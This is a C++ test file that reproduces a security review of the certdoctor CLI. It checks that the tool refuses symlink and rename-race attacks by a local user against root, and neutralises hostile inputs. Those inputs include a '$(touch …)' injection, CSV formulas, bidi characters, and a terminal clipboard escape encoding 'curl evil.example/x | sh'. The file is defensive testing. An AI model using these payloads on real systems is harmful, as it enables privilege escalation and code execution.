// The reproductions of the security review (issue 28, docs/SECURITY.md), run against the real CLI: a hostile
// local user ("nobody") plays against an admin who runs certdoctor as root on that user's profile; scanner files
// and backups carry terminal escapes and formulas; output files meet planted links. Each test checks that nothing
// outside the user's own reach changed: a root-only file, a root-owned NSS database, another user's database.
#include <catch2/catch.hpp>

#include <nlohmann/json.hpp>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <functional>
#include <chrono>
#include <fstream>
#include <thread>

#include "forge.hpp"
#include "pki.hpp"
#include "profile.hpp"
#include "servers.hpp"
#include "skip.hpp"

namespace fs = std::filesystem;
using json = nlohmann::json;

namespace {

testing::RunResult cli(std::vector<std::string> args) {
  args.insert(args.begin(), testing::bin("certdoctor").string());
  return testing::run(args);
}

bool is_root() { return ::geteuid() == 0; }

std::string files_of(const fs::path& profile) {
  return testing::read_file(profile / "cert9.db") + testing::read_file(profile / "key4.db");
}

uid_t owner_of(const fs::path& p) {
  struct stat st {};
  REQUIRE(::lstat(p.c_str(), &st) == 0);
  return st.st_uid;
}

// The scene of the review: a root-owned NSS database (standing in for /etc/pki/nssdb or root's own profile) holding
// a CA, a root-only file (standing in for /root/.bashrc), and a folder the hostile user owns, where they may plant
// what they like.
struct Scene {
  testing::Workspace w;  // w.profile: the root-owned database
  testing::Issued ca = w.pki.root("ca", {.subject = "/CN=Root Owned CA"});
  fs::path victim = w.dir / "victim" / "root-bashrc";
  fs::path mallory = w.dir / "mallory";
  std::string db_before, victim_before = "echo root's own file\n";

  Scene() {
    w.profile.add(ca, "root-owned-ca", "C,,");
    ::chmod(w.dir.path().c_str(), 0755);
    fs::create_directories(victim.parent_path());
    ::chmod(victim.parent_path().c_str(), 0700);
    testing::write_file(victim, victim_before);
    ::chmod(victim.c_str(), 0600);
    fs::create_directories(mallory / "certdoctor-backups");
    ::chmod(mallory.c_str(), 0700);
    ::chmod((mallory / "certdoctor-backups").c_str(), 0700);
    db_before = files_of(w.profile.dir());
  }
  void give_to_nobody() const { testing::run_ok({"chown", "-hR", "nobody:nogroup", mallory.string()}); }
  void unchanged() const {
    CHECK(testing::read_file(victim) == victim_before);
    CHECK(files_of(w.profile.dir()) == db_before);
    CHECK(w.profile.holds(ca));
  }
};

// A backup file as certdoctor writes it, with a `sha256` field chosen by the hostile user.
std::string crafted_backup(const std::string& sha256_field) {
  return json{{"id", "20260101T000000Z-bbbbbbbbbbbb"}, {"sha256", sha256_field}, {"nickname", "x"}, {"trust", "C,,"},
              {"subject", "CN=x"}, {"serial", "01"}, {"removed_at", "2026-01-01T00:00:00Z"},
              {"objects", {{"certificate", json::object()}}}}
      .dump(2);
}

// A third user (uid 12345, no account) with a real profile in s.w.dir/third/prof holding `dev`, and its files
// as they were.
struct ThirdUser {
  testing::Issued dev;
  fs::path third;
  testing::Profile theirs;
  std::string before;
  explicit ThirdUser(Scene& s)
      : dev(s.w.pki.device("dev", {.subject = "/CN=dev.test"})),
        third(s.w.dir / "third"),
        theirs((fs::create_directories(third), third / "prof")) {
    theirs.add(dev, "dev.test", ",,");
    testing::run_ok({"chown", "-R", "12345:12345", third.string()});
    ::chmod(third.c_str(), 0755);
    before = files_of(third / "prof");
  }
};

}  // namespace

TEST_CASE("Security: root on a profile whose cert9.db links to a root-owned database refuses, writes nothing",
          "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root (the attack is against an admin running certdoctor as root)");
  Scene s;
  fs::create_symlink(s.w.profile.dir() / "cert9.db", s.mallory / "cert9.db");
  fs::create_symlink(s.w.profile.dir() / "key4.db", s.mallory / "key4.db");
  fs::create_symlink(s.victim, s.mallory / "certdoctor-backups" / "journal.jsonl");
  testing::write_file(s.mallory / "certdoctor-backups" / "20260101T000000Z-bbbbbbbbbbbb.json",
                      crafted_backup("$(touch " + (s.w.dir / "PWNED").string() + ")"));
  s.give_to_nobody();
  const std::string m = s.mallory.string();
  for (const auto& args : std::vector<std::vector<std::string>>{
           {"undo", "--profile", m},
           {"undo", "--profile", m, "--list"},
           {"remove", "--profile", m, "--sha256", s.ca.sha256()},
           {"remove", "--profile", m, "--sha256", s.ca.sha256(), "--allow-trusted"},
           {"diagnose", "https://127.0.0.1:1/", "--profile", m, "--json"}}) {
    auto r = cli(args);
    INFO(args[0] << " " << r.err);
    CHECK(r.exit_code != 0);
    CHECK_THAT(r.err, Catch::Contains("cert9.db in " + m + " is a symbolic link"));
  }
  s.unchanged();
  CHECK_FALSE(fs::exists(s.w.dir / "PWNED"));
}

TEST_CASE("Security: root never becomes a third user through a database file that user owns", "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root");
  Scene s;
  // A copy of a database that belongs to uid 12345 (another user's ~/.pki/nssdb), placed in nobody's profile.
  fs::copy_file(s.w.profile.dir() / "cert9.db", s.mallory / "cert9.db");
  fs::copy_file(s.w.profile.dir() / "key4.db", s.mallory / "key4.db");
  s.give_to_nobody();
  testing::run_ok({"chown", "12345:12345", (s.mallory / "cert9.db").string(), (s.mallory / "key4.db").string()});
  const std::string theirs = files_of(s.mallory);
  auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", s.ca.sha256(), "--allow-trusted"});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("belongs to user id 12345, the folder to user id"));
  CHECK(files_of(s.mallory) == theirs);
  CHECK(fs::is_empty(s.mallory / "certdoctor-backups"));
  // A folder others may write is refused too (anyone could plant a database or a journal in it).
  ::chmod(s.mallory.c_str(), 0777);
  r = cli({"undo", "--profile", s.mallory.string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("can be changed by users other than its owner"));
  // And the profile folder itself as a link.
  fs::create_symlink(s.mallory, s.w.dir / "link-to-profile");
  r = cli({"undo", "--profile", (s.w.dir / "link-to-profile").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; give the folder it points to"));
}

TEST_CASE("Security: in the user's own profile, root acts as the user and writes through no planted link",
          "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root");
  Scene s;
  auto dev = s.w.pki.device("dev", {.subject = "/CN=dev.test"});
  testing::Profile theirs(s.mallory);  // a real profile of nobody's
  theirs.add(dev, "dev.test", ",,");
  const fs::path backups = s.mallory / "certdoctor-backups";
  fs::create_symlink(s.victim, backups / "journal.jsonl");
  s.give_to_nobody();

  // The journal, a link to a root-only file: refused before anything is removed.
  auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("journal.jsonl is a symbolic link"));
  CHECK(theirs.holds(dev));
  s.unchanged();

  // The backup folder, a link to a folder of root's: refused; that folder keeps its mode and gets no file.
  fs::remove(backups / "journal.jsonl");
  fs::remove(backups);
  const fs::path victim_dir = s.w.dir / "victimdir";
  fs::create_directory(victim_dir);
  ::chmod(victim_dir.c_str(), 0755);
  fs::create_symlink(victim_dir, backups);
  testing::run_ok({"chown", "-h", "nobody:nogroup", backups.string()});
  r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("certdoctor-backups is a symbolic link"));
  CHECK(fs::is_empty(victim_dir));
  struct stat st {};
  REQUIRE(::stat(victim_dir.c_str(), &st) == 0);
  CHECK((st.st_mode & 07777) == 0755);
  CHECK(theirs.holds(dev));

  // Predictable temporary names, planted for the next seconds: never written through (the names are random).
  fs::remove(backups);
  fs::create_directory(backups);
  ::chmod(backups.c_str(), 0700);
  const auto now = std::chrono::system_clock::to_time_t(std::chrono::system_clock::now());
  for (int dt = -2; dt < 30; ++dt) {
    const std::time_t t = now + dt;
    char stamp[32];
    std::strftime(stamp, sizeof stamp, "%Y%m%dT%H%M%SZ", std::gmtime(&t));
    fs::create_symlink(s.victim, backups / (std::string(stamp) + "-" + dev.sha256().substr(0, 12) + ".json.tmp"));
  }
  s.give_to_nobody();
  r = cli({"remove", "--profile", s.mallory.string(), "--sha256", dev.sha256(), "--json"});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  CHECK_FALSE(theirs.holds(dev));
  s.unchanged();
  // As the user: every file the run left in the profile is theirs.
  for (const auto& e : fs::recursive_directory_iterator(s.mallory)) {
    INFO(e.path());
    CHECK(owner_of(e.path()) != 0);
  }
  r = cli({"undo", "--profile", s.mallory.string(), "--json"});
  INFO(r.err);
  CHECK(r.exit_code == 0);
  CHECK(theirs.holds(dev));
  s.unchanged();
}

TEST_CASE("Security: a cert9.db link flipped thousands of times a second never lets root keep root", "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root");
  Scene s;
  testing::Profile theirs(s.mallory);
  fs::create_symlink(s.victim, s.mallory / "certdoctor-backups" / "journal.jsonl");
  fs::create_symlink(s.w.profile.dir() / "cert9.db", s.mallory / "alt");
  s.give_to_nobody();
  // The user swaps cert9.db between their real database and a link to root's, as fast as renames go.
  std::atomic<bool> stop{false};
  std::atomic<long> flips{0};
  std::thread flipper([&] {
    const fs::path db = s.mallory / "cert9.db", real = s.mallory / "real", alt = s.mallory / "alt";
    while (!stop) {
      ::rename(db.c_str(), real.c_str());
      ::rename(alt.c_str(), db.c_str());
      std::this_thread::sleep_for(std::chrono::microseconds(300));
      ::rename(db.c_str(), alt.c_str());
      ::rename(real.c_str(), db.c_str());
      ++flips;
    }
  });
  int runs = 0, refused = 0;
  for (; runs < 40; ++runs) {
    auto r = cli({"remove", "--profile", s.mallory.string(), "--sha256", s.ca.sha256(), "--allow-trusted"});
    CHECK(r.exit_code != 0);  // root's CA is never reachable: the run is refused or finds nothing
    if (r.err.find("symbolic link") != std::string::npos) ++refused;
  }
  stop = true;
  flipper.join();
  INFO(flips.load() << " flips over " << runs << " runs, " << refused << " refused on the link itself");
  CHECK(flips.load() > runs);
  s.unchanged();
  for (const auto& e : fs::recursive_directory_iterator(s.mallory)) {
    INFO(e.path());
    CHECK(owner_of(e.path()) != 0);
  }
}

TEST_CASE("Security: undo --list prints no escape sequence from a crafted backup", "[security]") {
  testing::Workspace w;
  const fs::path backups = w.profile.dir() / "certdoctor-backups";
  fs::create_directory(backups);
  ::chmod(backups.c_str(), 0700);
  testing::write_file(backups / "20260101T000000Z-bbbbbbbbbbbb.json",
                      crafted_backup("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07\x1b[2K\rOK\x1b]0;owned\x07"));
  ::chmod((backups / "20260101T000000Z-bbbbbbbbbbbb.json").c_str(), 0600);
  for (bool as_json : {false, true}) {
    std::vector<std::string> args{"undo", "--profile", w.profile.dir().string(), "--list"};
    if (as_json) args.push_back("--json");
    auto r = cli(args);
    INFO(r.err);
    CHECK(r.exit_code == 0);
    CHECK(r.out.find('\x1b') == std::string::npos);
    CHECK(r.out.find('\x07') == std::string::npos);
    CHECK(r.out.find("bbbbbbbbbbbb") == std::string::npos);  // not a hash: not listed at all
  }
}

TEST_CASE("Security: audit --csv and --json from a hostile scanner file and certificate are inert", "[security]") {
  testing::TempDir dir;
  std::ifstream in(fs::path(CERTDOCTOR_SOURCE_DIR) / "tests/data/audit/zgrab2-fleet.jsonl");
  std::string line;
  REQUIRE(std::getline(in, line));
  json record = json::parse(line);
  record["ip"] = "\x1b]0;TITLE\x07\x1b[31m'$(touch x)'\xc2\x9b" "2J\xe2\x80\xae" "10.0.0.1;=cmd|' /C calc'!A0;";
  record.at("data").at("tls").at("result").at("handshake_log").at("server_hello").at("version")["name"] = "TLSv1.2;=1*2";
  testing::write_file(dir / "hostile.jsonl", record.dump() + "\n");
  auto csv = cli({"audit", "--csv", (dir / "hostile.jsonl").string()});
  INFO(csv.err);
  REQUIRE(csv.out.find("endpoint,") == 0);
  for (const char* raw : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae"}) CHECK(csv.out.find(raw) == std::string::npos);
  // No piece of any cell starts a formula, whatever separator the spreadsheet splits on.
  for (const char* start : {";=", ",=", "\"=", ";+", ";@", "\t="}) CHECK(csv.out.find(start) == std::string::npos);
  CHECK(csv.out.find(";'=cmd") != std::string::npos);
  CHECK(csv.out.find("TLSv1.2;'=1*2") != std::string::npos);

  auto j = cli({"audit", "--json", (dir / "hostile.jsonl").string()});
  INFO(j.err);
  for (const char* raw : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae"}) CHECK(j.out.find(raw) == std::string::npos);
  // The data stays exact for a parser.
  const json report = json::parse(j.out);
  bool found = false;
  for (const auto& e : report.at("endpoints")) {
    found = found || e.at("endpoint").get<std::string>().find("\xe2\x80\xae" "10.0.0.1;=cmd") != std::string::npos;
  }
  CHECK(found);
}

TEST_CASE("Security: audit --html and host-manifest -o never write through a planted link", "[security]") {
  testing::TempDir dir;
  const fs::path shared = dir / "shared";
  fs::create_directory(shared);
  ::chmod(shared.c_str(), 01777);
  const fs::path victim = dir / "cfg";
  testing::write_file(victim, "root config\n");
  testing::write_file(dir / "targets.txt", "127.0.0.1:1\n");
  fs::create_symlink(victim, shared / "report.html.part");
  auto r = cli({"audit", "--html", (shared / "report.html").string(), "--connect-timeout", "1", (dir / "targets.txt").string()});
  INFO(r.err);
  CHECK(testing::read_file(victim) == "root config\n");
  CHECK(fs::is_regular_file(fs::symlink_status(shared / "report.html")));
  CHECK(testing::read_file(shared / "report.html").find("<html") != std::string::npos);
  // The target itself a link: refused, nothing written through it.
  fs::remove(shared / "report.html");
  fs::create_symlink(victim, shared / "report.html");
  r = cli({"audit", "--html", (shared / "report.html").string(), "--connect-timeout", "1", (dir / "targets.txt").string()});
  CHECK(r.exit_code == 2);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; nothing was written"));
  CHECK(testing::read_file(victim) == "root config\n");
  fs::create_symlink(victim, shared / "manifest.json");
  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (shared / "manifest.json").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link; nothing was written"));
  CHECK(testing::read_file(victim) == "root config\n");
  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (shared / "m2.json").string()});
  CHECK(r.exit_code == 0);
  CHECK(json::parse(testing::read_file(shared / "m2.json")).at("path") == "/usr/lib/certdoctor/certdoctor-host");
}

// Item 4 of issue 28, through every output a certificate subject reaches: terminal escapes (C0), C1 controls as
// code points, bidi and zero-width characters in a served certificate's subject. The terminal texts show them
// as visible escapes; JSON keeps the data exact (a parser gets the very characters) but writes them as \u
// escapes; the HTML report and the CSV mark them; nothing reaches any output raw.
TEST_CASE("Security: escapes in a certificate subject reach no output raw", "[security][injection]") {
  testing::TempDir dir;
  const std::string cn = "evil\x1b]0;T\x07\xc2\x9b" "2J\xe2\x80\xae" "moc.evil\xe2\x80\x8b" "=cmd";
  testing::forge::Cert evil = testing::forge::make({.cn = cn, .ext = {"subjectAltName=DNS:evil.test"}}, nullptr);
  testing::write_file(dir / "c.pem", evil.pem());
  testing::write_file(dir / "c.key", evil.key_pem());
  testing::TlsServer server({.cert = dir / "c.pem", .key = dir / "c.key"});
  testing::write_file(dir / "targets.txt", "127.0.0.1:" + std::to_string(server.port()) + "\n");
  const std::vector<std::string> raw = {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae", "\xe2\x80\x8b"};
  auto inert = [&](const std::string& what, const std::string& out) {
    INFO(what << ": " << out.substr(0, 4000));
    for (const auto& r : raw) CHECK(out.find(r) == std::string::npos);
  };
  // Does the parsed JSON hold the subject exactly, somewhere?
  std::function<bool(const json&)> holds_exact = [&](const json& j) {
    if (j.is_string()) return j.get<std::string>().find("\xe2\x80\xae" "moc.evil\xe2\x80\x8b") != std::string::npos;
    if (!j.is_structured()) return false;
    for (const auto& v : j) {
      if (holds_exact(v)) return true;
    }
    return false;
  };

  auto text = cli({"diagnose", server.url()});
  REQUIRE(text.exit_code == 0);
  inert("diagnose", text.out + text.err);
  auto dj = cli({"diagnose", server.url(), "--json"});
  REQUIRE(dj.exit_code == 0);
  inert("diagnose --json", dj.out);
  CHECK(holds_exact(json::parse(dj.out)));

  const std::string targets = (dir / "targets.txt").string(), html = (dir / "report.html").string();
  auto at = cli({"audit", targets, "--html", html});
  INFO(at.err);
  REQUIRE(at.exit_code <= 1);
  inert("audit", at.out + at.err);
  const std::string report = testing::read_file(html);
  inert("audit --html", report);
  CHECK_THAT(report, Catch::Contains("\u27e8U+202E\u27e9"));  // marked where people read it
  auto csv = cli({"audit", targets, "--csv"});
  inert("audit --csv", csv.out);
  auto aj = cli({"audit", targets, "--json"});
  inert("audit --json", aj.out);
  CHECK(holds_exact(json::parse(aj.out)));

  auto lint = cli({"lint", (dir / "c.pem").string()});
  INFO(lint.err);
  CHECK(lint.exit_code <= 1);
  inert("lint", lint.out + lint.err);
  auto lj = cli({"lint", (dir / "c.pem").string(), "--json"});
  inert("lint --json", lj.out);
  CHECK(holds_exact(json::parse(lj.out)));
}

// A profile name (profiles.ini is the user's own file, and may hold anything) through `profiles`, text and JSON.
TEST_CASE("Security: escapes in a profile's name reach no output raw", "[security][injection]") {
  testing::TempDir home;
  const fs::path root = home / ".mozilla" / "firefox";
  fs::create_directories(root / "p1");
  testing::write_file(root / "profiles.ini", "[Profile0]\nName=a\x1b]0;T\x07\xc2\x9b" "2J\xe2\x80\xae" "x\nIsRelative=1\n"
                                             "Path=p1\nDefault=1\n\n[General]\nStartWithLastProfile=1\nVersion=2\n");
  for (bool as_json : {false, true}) {
    std::vector<std::string> args{"profiles", "--home", home.path().string()};
    if (as_json) args.push_back("--json");
    auto r = cli(args);
    INFO(r.out << r.err);
    REQUIRE(r.exit_code == 0);
    for (const char* raw : {"\x1b", "\x07", "\xc2\x9b", "\xe2\x80\xae"}) CHECK(r.out.find(raw) == std::string::npos);
    if (as_json) {
      CHECK(json::parse(r.out).at("profiles").at(0).at("name") == "a\x1b]0;T\x07\xc2\x9b" "2J\xe2\x80\xae" "x");
    } else {
      CHECK_THAT(r.out, Catch::Contains("\u27e8U+202E\u27e9"));
    }
  }
}

// Item 1 of issue 28, the path itself: a link in a *parent* of the profile path that another user placed is not
// followed. The review's third user again: the hostile user's folder links to a folder of a third user's (uid
// 12345) holding that user's real profile; root asked to work on the hostile user's path must not end up acting
// as the third user on their profile. A link root placed in a folder only root may change (like /home pointing
// elsewhere) is followed.
TEST_CASE("Security: a link in a parent folder that another user placed is not followed", "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root (the attack is against an admin running certdoctor as root)");
  Scene s;
  ThirdUser t(s);
  auto& [dev, third, theirs, before] = t;
  fs::create_symlink(third, s.mallory / "moz");
  s.give_to_nobody();
  const std::string path = (s.mallory / "moz" / "prof").string();
  for (const auto& args : std::vector<std::vector<std::string>>{
           {"remove", "--profile", path, "--sha256", dev.sha256()},
           {"undo", "--profile", path},
           {"undo", "--profile", path, "--list"},
           {"diagnose", "https://127.0.0.1:1/", "--profile", path, "--json"},
           {"audit", "--profile", path, (s.w.dir / "none.txt").string()}}) {
    auto r = cli(args);
    INFO(args[0] << " " << r.err);
    CHECK(r.exit_code != 0);
    CHECK_THAT(r.err, Catch::Contains((s.mallory / "moz").string() + ", on the way to " + path + ", is a symbolic link"));
  }
  CHECK(files_of(third / "prof") == before);
  CHECK(theirs.holds(dev));
  CHECK_FALSE(fs::exists(third / "prof" / "certdoctor-backups"));
  s.unchanged();

  // The same profile through a link root made in a folder only root may change: followed, and root acts as the
  // profile's owner there.
  fs::create_symlink(third, s.w.dir / "homes");
  const std::string trusted = (s.w.dir / "homes" / "prof").string();
  auto r = cli({"remove", "--profile", trusted, "--sha256", dev.sha256(), "--json"});
  INFO(r.err);
  REQUIRE(r.exit_code == 0);
  CHECK_FALSE(theirs.holds(dev));
  CHECK(owner_of(third / "prof" / "certdoctor-backups") == 12345);
  r = cli({"undo", "--profile", trusted, "--json"});
  INFO(r.err);
  CHECK(r.exit_code == 0);
  CHECK(theirs.holds(dev));
  s.unchanged();
}

// Item 1, last point: every file certdoctor writes where it is told to. As root into a folder another user owns
// or may change: a link on the way, a file of another user at the name, a folder others may write without the
// sticky bit; reissue's outputs go through the same writer.
TEST_CASE("Security: output files are never written through another user's link or over their file", "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root (files of another user)");
  testing::TempDir dir;
  ::chmod(dir.path().c_str(), 0755);
  const fs::path victim_dir = dir / "victim";
  fs::create_directory(victim_dir);
  ::chmod(victim_dir.c_str(), 0700);
  const fs::path mallory = dir / "mallory";
  fs::create_directory(mallory);
  fs::create_symlink(victim_dir, mallory / "out");
  testing::run_ok({"chown", "-hR", "nobody:nogroup", mallory.string()});
  testing::write_file(dir / "targets.txt", "127.0.0.1:1\n");
  const std::string args_html = (mallory / "out" / "report.html").string();
  auto r = cli({"audit", "--html", args_html, "--connect-timeout", "1", (dir / "targets.txt").string()});
  CHECK(r.exit_code == 2);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link that a user other than root"));
  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (mallory / "out" / "m.json").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link that a user other than root"));
  r = cli({"reissue", "https://127.0.0.1:1/", "--out", (mallory / "out").string()});
  CHECK(r.exit_code != 0);
  CHECK_THAT(r.err, Catch::Contains("is a symbolic link that a user other than root"));
  CHECK(fs::is_empty(victim_dir));

  // A file of another user at the report's name: not replaced.
  const fs::path shared = dir / "shared";
  fs::create_directory(shared);
  ::chmod(shared.c_str(), 01777);
  testing::write_file(shared / "report.html", "theirs\n");
  testing::run_ok({"chown", "nobody:nogroup", (shared / "report.html").string()});
  r = cli({"audit", "--html", (shared / "report.html").string(), "--connect-timeout", "1", (dir / "targets.txt").string()});
  CHECK(r.exit_code == 2);
  CHECK_THAT(r.err, Catch::Contains("belongs to user id"));
  CHECK(testing::read_file(shared / "report.html") == "theirs\n");

  // A folder others may write, without the sticky bit: they could replace the file once written.
  const fs::path open_dir = dir / "open";
  fs::create_directory(open_dir);
  ::chmod(open_dir.c_str(), 0777);
  r = cli({"host-manifest", "--host-path", "/usr/lib/certdoctor/certdoctor-host", "-o", (open_dir / "m.json").string()});
  CHECK(r.exit_code == 1);
  CHECK_THAT(r.err, Catch::Contains("can be changed by other users"));
  CHECK(fs::is_empty(open_dir));
}

// The same parent link, flipped: the hostile user swaps their folder between a real one (with their own profile)
// and a link to the third user's folder, as fast as renames go, while root runs remove and undo on their path.
// Whatever the timing, root works on the hostile user's own profile or refuses; the third user's is never touched.
TEST_CASE("Security: a parent folder flipped to another user's folder during the runs never redirects root",
          "[security][root]") {
  if (!is_root()) CERTDOCTOR_SKIP("needs root (the attack is against an admin running certdoctor as root)");
  Scene s;
  ThirdUser t(s);
  auto& [dev, third, theirs, before] = t;
  const fs::path moz = s.mallory / "moz", real = s.mallory / "real", alt = s.mallory / "alt";
  fs::create_directories(real);
  testing::Profile mine(real / "prof");
  mine.add(dev, "dev.test", ",,");
  fs::create_symlink(third, alt);
  s.give_to_nobody();
  std::atomic<bool> stop{false};
  std::atomic<long> flips{0};
  std::thread flipper([&] {
    while (!stop) {
      ::rename(real.c_str(), moz.c_str());
      std::this_thread::sleep_for(std::chrono::microseconds(300));
      ::rename(moz.c_str(), real.c_str());
      ::rename(alt.c_str(), moz.c_str());
      std::this_thread::sleep_for(std::chrono::microseconds(300));
      ::rename(moz.c_str(), alt.c_str());
      ++flips;
    }
  });
  int runs = 0, removed = 0, refused = 0, unopened = 0;
  for (; runs < 30; ++runs) {
    auto r = cli({"remove", "--profile", (moz / "prof").string(), "--sha256", dev.sha256()});
    if (r.exit_code == 0) {
      ++removed;
      cli({"undo", "--profile", (moz / "prof").string()});
    }
    if (r.err.find("is a symbolic link that a user other than root") != std::string::npos) ++refused;
    // Otherwise the folder was opened while it was the user's own, and the run acts as that user: SQLite (under
    // NSS) may look the folder up by its name again and find it moved (NSS then cannot open the database), but
    // with the user's rights only.
    if (r.exit_code != 0 && r.err.find("is a symbolic link") == std::string::npos) ++unopened;
  }
  stop = true;
  flipper.join();
  INFO(flips.load() << " flips over " << runs << " runs; " << removed << " removals from the user's own profile, "
                    << refused << " refused on the link, " << unopened << " failed otherwise");
  CHECK(flips.load() > runs);
  CHECK(refused > 0);
  CHECK(files_of(third / "prof") == before);
  CHECK(theirs.holds(dev));
  CHECK_FALSE(fs::exists(third / "prof" / "certdoctor-backups"));
  s.unchanged();
}
